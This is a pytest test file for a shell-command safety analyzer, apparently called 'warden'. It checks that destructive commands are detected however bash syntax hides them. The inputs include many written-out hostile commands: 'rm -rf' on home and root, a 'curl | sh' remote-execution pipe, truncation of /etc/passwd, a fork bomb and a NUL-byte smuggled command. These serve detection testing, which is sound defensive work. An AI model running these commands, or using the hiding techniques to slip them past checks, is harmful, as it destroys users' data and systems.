"""Decomposition: every simple command that will run is found, wherever the syntax hides it."""

from __future__ import annotations

import pytest
from shell_util import an, argvs, kinds, programs


@pytest.mark.parametrize("cmd", [
    "ls; rm -rf x", "ls && rm -rf x", "ls || rm -rf x", "ls | rm -rf x", "ls & rm -rf x", "ls\nrm -rf x",
    "(rm -rf x)", "{ rm -rf x; }", "echo $(rm -rf x)", "echo `rm -rf x`", "cat <(rm -rf x)", "tee >(rm -rf x)",
    "if true; then rm -rf x; fi", "if false; then :; else rm -rf x; fi", "while true; do rm -rf x; done",
    "until false; do rm -rf x; done", "for i in 1 2; do rm -rf x; done", "case a in a) rm -rf x;; esac",
    "f() { rm -rf x; }; f", "! rm -rf x", "x=$(rm -rf x)", "[[ $(rm -rf x) ]]", "echo ${a:-$(rm -rf x)}",
    "cat <<EOF\n$(rm -rf x)\nEOF", "cat <<EOF\n`rm -rf x`\nEOF", "echo \"$(echo \"$(rm -rf x)\")\"",
    "export A=$(rm -rf x)", "local_v=1 rm -rf x", "time rm -rf x", "coproc rm -rf x",
])
def test_hidden_commands_are_found(cmd):
    assert "rm" in programs(cmd), an(cmd)


def test_function_body_runs_only_when_called_and_binds_arguments():
    assert "rm" not in programs("f() { rm -rf \"$1\"; }")
    assert ("rm", "-rf", "/") in argvs("f() { rm -rf \"$1\"; }; f /")


def test_heredoc_with_quoted_delimiter_is_data():
    assert programs("cat <<'EOF'\n$(rm -rf ~)\nEOF") == ["cat"]


def test_data_mentions_are_not_commands():
    for cmd in ['grep "rm -rf" notes.md', "git commit -m 'never curl | sh'", "echo 'rm -rf /'"]:
        assert "rm" not in programs(cmd) and "sh" not in programs(cmd)
        assert not {k for k in kinds(cmd) if k.startswith(("fs.", "flow.", "exec.opaque"))}


def test_syntax_error_is_reported_and_pieces_still_analyzed():
    ks = kinds("[ -d ~ ] && rm -rf ~")
    assert "shell.parse_error" in ks and "fs.critical" in ks


def test_empty_and_comment_only_commands_are_the_null_command():
    assert programs("") == [":"] and programs("# just a comment") == [":"]


def test_assignment_only_and_export_are_commands():
    assert programs("A=1") == [":"]
    assert programs("export A=1") == ["export"]


def test_bare_redirection_truncates_a_file():
    a = an("> /etc/passwd")
    assert a.commands[0].program == ":" and "sys.auth_write" in {f.kind for f in a.all_facts()}


def test_pipeline_stdout_flows_to_the_next_stage():
    assert "flow.remote_exec" in kinds("curl -s http://x | tee /tmp/a | sh")
    assert "flow.remote_exec" not in kinds("curl -s http://x | tee /tmp/a")


def test_cd_changes_where_relative_paths_resolve_conservatively():
    a = an("cd / && rm -rf *")
    rm = next(c for c in a.commands if c.program == "rm")
    assert {p.path for p in rm.paths} >= {"/*"}
    # cd may fail: the old directory stays possible too
    b = an("cd ~ || cd /tmp; rm -rf *")
    rm = next(c for c in b.commands if c.program == "rm")
    assert "/home/dev/*" in {p.path for p in rm.paths}


def test_conditional_assignment_keeps_both_values():
    assert "fs.critical" in kinds("x=rm; if cond; then x=ls; fi; $x -rf ~")
    assert "fs.critical" in kinds("if true; then x=ls; else x=rm; fi; $x -rf ~")


def test_for_loop_values_expand():
    assert "fs.critical" in kinds("for d in a /; do rm -rf $d; done")


def test_fork_bomb():
    assert "sys.fork_bomb" in kinds(":(){ :|:& };:")
    assert "sys.fork_bomb" not in kinds("f(){ echo hi; }; f")


def test_too_large_and_nul_bytes():
    assert "shell.too_large" in kinds("echo " + "a" * 200_000)
    assert "shell.binary" in kinds("ls\x00rm -rf /")


def test_complexity_prescan_counts_structure_outside_quotes_and_heredocs():
    from warden.core.analyze.shell_parse import too_complex

    assert too_complex("ls | " * 300 + "ls")
    assert not too_complex("echo '" + "a|" * 2000 + "'")
    assert not too_complex("cat > t.md <<'EOF'\n" + "| a | b |\n" * 3000 + "EOF\n")
    assert too_complex("<<EOF\n" * 1000)
    assert not too_complex("git status && git diff")


def test_too_complex_input_is_still_analyzed_piece_by_piece():
    ks = kinds("ls | " * 300 + "rm -rf ~")
    assert "shell.too_complex" in ks and "exec.opaque" in ks


def test_split_pieces_respects_quotes():
    from warden.core.analyze.shell_recovery import split_pieces

    pieces = [p.strip() for p in split_pieces("echo 'a;b' && rm -rf x | cat") if p.strip()]
    assert pieces == ["echo 'a;b'", "rm -rf x", "cat"]
